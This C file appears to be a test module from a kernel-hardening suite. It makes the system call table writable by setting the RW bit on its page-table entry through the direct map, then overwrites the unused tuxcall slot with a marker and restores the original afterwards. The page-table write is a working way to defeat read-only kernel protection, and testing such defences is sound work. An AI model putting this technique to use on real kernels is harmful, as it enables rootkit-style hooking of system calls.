/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/* Makes the system call table writable: through the direct map, where the kernel's page tables lie. */
#include "attack.h"
#include "attack_tables.h"

#include <asm/unistd.h>

/* Never implemented, so that nobody misses it meanwhile. */
#define CALL __NR_tuxcall
#define PLANTED 0x0badc0de5ec90d03ull

static u64 *word, *slot;
static u64 before, original;

static int attempt(void)
{
	unsigned int level = 1;

	word = (u64 *)attack_symbol("sys_call_table");
	if (!word)
		return -ENOENT;
	word += CALL;
	original = *word;
	if (!attack_read_only(word))
		return -EINVAL;
	slot = attack_slot((unsigned long)word, 1, &level);
	if (!slot)
		slot = attack_slot((unsigned long)word, level, NULL);
	before = *slot;
	(void)attack_store(slot, before | _PAGE_RW | _PAGE_DIRTY);
	attack_flush();
	(void)attack_store(word, PLANTED);
	return 0;
}

static bool effect(void)
{
	attack_detail("sys_call_table[%d] reads 0x%llx", CALL, READ_ONCE(*word));
	return READ_ONCE(*word) != original;
}

static void undo(void)
{
	(void)attack_store(word, original);
	(void)attack_store(slot, before);
	attack_flush();
}

static const struct attack pt_rodata = {
	"pt_rodata", "locked-range,code-store", NULL, attempt, effect, undo};
ATTACK_MODULE(pt_rodata);
